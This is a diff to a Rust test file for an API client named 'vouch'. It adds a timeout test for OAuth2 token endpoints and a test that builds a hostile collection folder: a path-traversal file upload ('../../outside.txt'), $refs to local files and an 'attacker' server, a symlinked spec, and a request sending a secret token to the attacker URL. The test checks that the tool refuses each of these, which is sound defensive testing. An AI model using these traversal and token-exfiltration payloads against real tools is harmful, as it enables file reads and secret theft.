@@ -747,13 +747,11 @@ fn secrets_are_sealed_at_rest() {
     assert!(out.contains("secrets sealed with: the key file"), "{out}");
 }
 
-/// A token endpoint named by a spec cannot make the session read without bound: its answer
-/// is capped (1 MB) like any other response.
-#[test]
-fn a_token_endpoint_answer_is_capped() {
-    let (base, _hits, _rt) = counting_server("x".repeat(2 << 20));
+/// A request to `base` prepared with an OAuth2 password grant whose token URL is
+/// `token_url` (the spec's security scheme, the environment's username and password).
+fn oauth_prepared(base: &str, token_url: &str) -> vouch::request::Prepared {
     let doc = serde_json::json!({"openapi": "3.1.0", "info": {"title": "t", "version": "1"},
-        "components": {"securitySchemes": {"pw": {"type": "oauth2", "flows": {"password": {"tokenUrl": format!("{base}/token"), "scopes": {}}}}}},
+        "components": {"securitySchemes": {"pw": {"type": "oauth2", "flows": {"password": {"tokenUrl": token_url, "scopes": {}}}}}},
         "security": [{"pw": []}],
         "paths": {"/me": {"get": {"operationId": "me", "responses": {"200": {"description": "ok"}}}}}});
     let spec = vouch::spec::Spec::from_bytes(
@@ -768,10 +766,18 @@ fn a_token_endpoint_answer_is_capped() {
     let draft = Draft {
         method: "GET".into(),
         path: "/me".into(),
-        base_url: Some(base.clone()),
+        base_url: Some(base.to_string()),
         ..Draft::default()
     };
-    let prepared = vouch::request::prepare(&spec, Some(&detail), &draft, &env).expect("prepare");
+    vouch::request::prepare(&spec, Some(&detail), &draft, &env).expect("prepare")
+}
+
+/// A token endpoint named by a spec cannot make the session read without bound: its answer
+/// is capped (1 MB) like any other response.
+#[test]
+fn a_token_endpoint_answer_is_capped() {
+    let (base, _hits, _rt) = counting_server("x".repeat(2 << 20));
+    let prepared = oauth_prepared(&base, &format!("{base}/token"));
     let session = vouch::request::Session::new();
     let e = crate::util::runtime()
         .block_on(session.send(&prepared, &Default::default(), None))
@@ -779,5 +785,342 @@ fn a_token_endpoint_answer_is_capped() {
     assert!(
         e.to_string().contains("the answer is over 1048576 bytes"),
         "{e}"
+    );
+}
+
+/// A token endpoint that accepts the connection and never answers cannot hold the call: the
+/// token request gets the call's own time limit (`--timeout`, 30 s by default) and fails
+/// naming the token URL and the limit; the call itself is never sent.
+#[test]
+fn a_silent_token_endpoint_fails_within_the_time_limit() {
+    use std::sync::atomic::{AtomicUsize, Ordering};
+    let silent = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    let token_url = format!("http://{}/token", silent.local_addr().expect("addr"));
+    silent.set_nonblocking(true).expect("nonblocking");
+    let accepted = std::sync::Arc::new(AtomicUsize::new(0));
+    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let (counter, stop) = (accepted.clone(), done.clone());
+    // Accepts and holds connections, silent, until the test is done (10 s at most).
+    let holder = std::thread::spawn(move || {
+        let mut held = Vec::new();
+        let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
+        while !stop.load(Ordering::SeqCst) && std::time::Instant::now() < until {
+            if let Ok((stream, _)) = silent.accept() {
+                counter.fetch_add(1, Ordering::SeqCst);
+                held.push(stream);
+            }
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+    });
+    let (base, api_hits, _rt) = counting_server("{}".into());
+    let prepared = oauth_prepared(&base, &token_url);
+    let options = vouch::request::SendOptions {
+        timeout: std::time::Duration::from_secs(1),
+        ..Default::default()
+    };
+    let session = vouch::request::Session::new();
+    let started = std::time::Instant::now();
+    let e = crate::util::runtime()
+        .block_on(session.send(&prepared, &options, None))
+        .expect_err("timed out");
+    let took = started.elapsed();
+    assert!(
+        took >= std::time::Duration::from_millis(900) && took < std::time::Duration::from_secs(5),
+        "{took:?}: {e}"
+    );
+    let text = e.to_string();
+    assert!(
+        text.contains(&format!("OAuth2 token from {token_url}")),
+        "{text}"
+    );
+    assert!(
+        text.contains("no complete answer within 1 s (the call's time limit)"),
+        "{text}"
+    );
+    assert_eq!(e.kind(), "token");
+    assert!(
+        accepted.load(Ordering::SeqCst) >= 1,
+        "the token endpoint was reached"
+    );
+    assert_eq!(
+        api_hits.load(Ordering::SeqCst),
+        0,
+        "no call without a token"
+    );
+    done.store(true, Ordering::SeqCst);
+    holder.join().expect("holder");
+}
+
+/// A loopback server answering `{}` (JSON) at every path and keeping every request it saw
+/// (method, target, headers and body, as bytes).
+fn recording_server() -> (
+    String,
+    std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>,
+    tokio::runtime::Runtime,
+) {
+    let rt = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(1)
+        .enable_all()
+        .build()
+        .expect("rt");
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let log = seen.clone();
+    let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
+        let log = log.clone();
+        async move {
+            let mut raw = format!("{} {}\n", req.method(), req.uri()).into_bytes();
+            for (k, v) in req.headers() {
+                raw.extend(format!("{k}: ").as_bytes());
+                raw.extend(v.as_bytes());
+                raw.push(b'\n');
+            }
+            let body = axum::body::to_bytes(req.into_body(), 64 << 20)
+                .await
+                .unwrap_or_default();
+            raw.extend(&body);
+            log.lock().expect("log").push(raw);
+            axum::Json(serde_json::json!({}))
+        }
+    });
+    let listener = rt
+        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
+        .expect("bind");
+    let base = format!("http://{}", listener.local_addr().expect("addr"));
+    rt.spawn(async move { axum::serve(listener, app).await });
+    (base, seen, rt)
+}
+
+/// The hostile folder: a spec with `$ref`s to a file outside and to the attacker, a request
+/// that sends `{{token}}` to the legit service, one that uploads a file part leading out of
+/// the folder (`../../outside.txt`) and a text part, one that sends `{{token}}` to the
+/// attacker's port.
+fn hostile_folder(dir: &std::path::Path, outside: &std::path::Path, attacker: &str) {
+    std::fs::create_dir_all(dir).expect("dir");
+    std::fs::write(
+        dir.join("collection.yaml"),
+        "version: 2\nname: hostile\nspec: openapi.json\n",
+    )
+    .expect("write");
+    let ok = serde_json::json!({"200": {"description": "ok",
+        "content": {"application/json": {"schema": {"type": "object"}}}}});
+    let spec = serde_json::json!({"openapi": "3.0.3", "info": {"title": "hostile", "version": "1"},
+        "paths": {
+            "/ok": {"get": {"operationId": "ok", "responses": ok}},
+            "/upload": {"post": {"operationId": "upload", "responses": ok, "requestBody": {
+                "content": {"multipart/form-data": {"schema": {"type": "object"}}}}}},
+            "/leak": {"get": {"operationId": "leak", "responses": ok}}},
+        "components": {"schemas": {
+            "Local": {"$ref": format!("file://{}#/X", outside.display())},
+            "Remote": {"$ref": format!("{attacker}/schema.yaml#/X")}}}});
+    std::fs::write(
+        dir.join("openapi.json"),
+        serde_json::to_vec_pretty(&spec).expect("json"),
+    )
+    .expect("write");
+    let request = |name: &str, seq: u8, rest: &str| {
+        std::fs::write(
+            dir.join(format!("{name}.yaml")),
+            format!("name: {name}\nseq: {seq}\n{rest}"),
+        )
+        .expect("write");
+    };
+    request(
+        "ok",
+        0,
+        "method: GET\npath: /ok\nheaders:\n- [X-Token, '{{token}}']\nbase_url: '{{baseUrl}}'\n",
+    );
+    request("upload", 1, "method: POST\npath: /upload\nbody:\n  multipart:\n  - name: stolen\n    value:\n      file:\n        path: '../../outside.txt'\n  - name: title\n    value:\n      text: kept\nbase_url: '{{baseUrl}}'\n");
+    request(
+        "leak",
+        2,
+        &format!("method: GET\npath: /leak\nheaders:\n- [X-Token, '{{{{token}}}}']\nbase_url: '{attacker}'\n"),
+    );
+}
+
+/// A folder whose collection names `spec`, with the hostile folder's legit request.
+fn refused_folder(
+    dir: &std::path::Path,
+    spec: &str,
+    hostile: &std::path::Path,
+) -> std::path::PathBuf {
+    std::fs::create_dir_all(dir).expect("dir");
+    std::fs::write(
+        dir.join("collection.yaml"),
+        format!("version: 2\nname: refused\nspec: '{spec}'\n"),
+    )
+    .expect("write");
+    std::fs::copy(hostile.join("ok.yaml"), dir.join("ok.yaml")).expect("copy");
+    dir.to_path_buf()
+}
+
+/// Whether `needle` is anywhere in the files of `dir` (the store: database, WAL, keys).
+fn in_folder(dir: &std::path::Path, needle: &str) -> bool {
+    std::fs::read_dir(dir).expect("ls").flatten().any(|f| {
+        std::fs::read(f.path())
+            .is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
+    })
+}
+
+/// What the files outside the hostile folder hold: it may reach no request, output or store.
+const OUTSIDE_MARKER: &str = "outside-marker-7c1e5a9d3b";
+
+/// The user's own secret for the hostile folder's run (bound to the legit service).
+const HOSTILE_TOKEN: &str = "tok-3f9a1c7e5b";
+
+/// The outside files: `outside.txt` (a schema fragment, the file part's and the `$ref`'s
+/// target) and `outside.json` (a spec, the symlink's and the `file://` spec's target).
+fn outside_files(top: &std::path::Path) -> (std::path::PathBuf, std::path::PathBuf) {
+    let outside = top.join("outside.txt");
+    std::fs::write(
+        &outside,
+        format!("X: {{type: string, description: {OUTSIDE_MARKER}}}\n"),
+    )
+    .expect("write");
+    let spec = top.join("outside.json");
+    let doc = serde_json::json!({"openapi": "3.0.3", "paths": {},
+        "info": {"title": OUTSIDE_MARKER, "version": "1"}});
+    std::fs::write(&spec, doc.to_string()).expect("write");
+    (outside, spec)
+}
+
+/// What `vouch run` said of the hostile folder: the leaking step failed alone, and each
+/// refusal is named.
+fn assert_refusals_said(out: &str, err: &str, attacker: &str, outside: &std::path::Path) {
+    assert!(
+        out.contains("3 steps: 2 passed, 0 failed, 1 error"),
+        "{out}{err}"
+    );
+    assert!(
+        out.contains(&format!("secret `token` may not be sent to {attacker}")),
+        "{out}"
+    );
+    assert!(
+        err.contains(
+            "file part `stolen` (../../outside.txt) is not a file inside the collection: dropped"
+        ),
+        "{err}"
+    );
+    // Each refused `$ref` named in a warning (a folder's spec copy reaches no other
+    // document; one loaded from its file would say `not followed`).
+    let refused = |r: &str| {
+        err.lines().any(|l| {
+            l.starts_with("warning: the spec's $ref")
+                && l.contains(r)
+                && (l.contains("not followed") || l.contains("cannot reach"))
+        })
+    };
+    assert!(
+        refused(&format!("file://{}#/X", outside.display())),
+        "{err}"
+    );
+    assert!(refused(&format!("{attacker}/schema.yaml#/X")), "{err}");
+}
+
+/// What the legit service received: the two legit steps, the token where it belongs, the
+/// dropped file part empty, nothing of the outside files.
+fn assert_legit_requests(requests: &[Vec<u8>]) {
+    let text: Vec<String> = requests
+        .iter()
+        .map(|r| String::from_utf8_lossy(r).into_owned())
+        .collect();
+    assert_eq!(requests.len(), 2, "{text:?}");
+    assert!(
+        text[0].starts_with("GET /ok") && text[0].contains(HOSTILE_TOKEN),
+        "{text:?}"
+    );
+    assert!(
+        text[1].starts_with("POST /upload") && text[1].contains("kept"),
+        "{text:?}"
+    );
+    assert!(
+        text[1].contains("name=\"stolen\"\r\n\r\n\r\n--"),
+        "{text:?}"
+    );
+    assert!(!text.iter().any(|r| r.contains(OUTSIDE_MARKER)), "{text:?}");
+}
+
+/// A hostile collection folder run with `vouch run` sends nothing outside and reads nothing
+/// outside: its file part `../../outside.txt` is dropped (said), its spec's `$ref`s to
+/// `file:///…` and to a second local server are not followed (said), its request carrying
+/// `{{token}}` to another loopback port fails alone (said, non-zero exit) while the legit
+/// steps run; a folder whose `openapi.json` is a symlink, or whose spec is a `file://` URL
+/// outside, is refused whole. The attacker's server sees nothing; the outside marker is in
+/// no request, no output and nowhere in the store.
+#[test]
+fn a_hostile_folder_run_sends_and_reads_nothing_outside() {
+    use std::sync::atomic::Ordering;
+    let (legit, seen, _rt1) = recording_server();
+    let (attacker, attacker_hits, _rt2) = counting_server("X: {type: string}\n".into());
+    let top = tempfile::tempdir().expect("tmp");
+    let (outside, outside_spec) = outside_files(top.path());
+    let mine = top.path().join("mine.yaml");
+    std::fs::write(
+        &mine,
+        format!("name: mine\nvariables:\n  baseUrl: {legit}\n  token: {{value: {HOSTILE_TOKEN}, secret: true}}\n"),
+    )
+    .expect("write");
+    let data = top.path().join("data");
+    let vouch = |folder: &std::path::Path| {
+        let out = crate::util::vouch()
+            .args(["run", folder.to_str().expect("utf-8"), "--env"])
+            .args([mine.to_str().expect("utf-8"), "--data-dir"])
+            .arg(&data)
+            .output()
+            .expect("vouch");
+        let said = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(
+            !said.contains(OUTSIDE_MARKER) && !said.contains(HOSTILE_TOKEN),
+            "{said}"
+        );
+        (
+            out.status.code(),
+            String::from_utf8_lossy(&out.stdout).into_owned(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        )
+    };
+
+    let hostile = top.path().join("x/hostile");
+    hostile_folder(&hostile, &outside, &attacker);
+    let (code, out, err) = vouch(&hostile);
+    assert_eq!(code, Some(1), "{out}{err}");
+    assert_refusals_said(&out, &err, &attacker, &outside);
+    assert_legit_requests(&seen.lock().expect("seen"));
+
+    // A symlinked `openapi.json`, a `file://` spec outside: the whole folder is refused.
+    let linked = refused_folder(&top.path().join("x/linked"), "openapi.json", &hostile);
+    std::os::unix::fs::symlink(&outside_spec, linked.join("openapi.json")).expect("symlink");
+    let (code, out, err) = vouch(&linked);
+    assert_eq!(code, Some(2), "{out}{err}");
+    assert!(
+        err.contains("spec `openapi.json` is not a file inside the folder"),
+        "{err}"
+    );
+    let url = format!("file://{}", outside_spec.display());
+    let far = refused_folder(&top.path().join("x/far"), &url, &hostile);
+    let (code, out, err) = vouch(&far);
+    assert_eq!(code, Some(2), "{out}{err}");
+    assert!(
+        err.contains(&format!("spec `{url}` is not a file inside the folder")),
+        "{err}"
+    );
+
+    let received = seen.lock().expect("seen").len();
+    assert_eq!(received, 2, "the refused folders sent nothing");
+    assert_eq!(
+        attacker_hits.load(Ordering::SeqCst),
+        0,
+        "the attacker saw nothing"
+    );
+    assert!(
+        !in_folder(&data, OUTSIDE_MARKER),
+        "the marker is in the store"
+    );
+    assert!(
+        !in_folder(&data, HOSTILE_TOKEN),
+        "the token is in the store in clear"
     );
 }
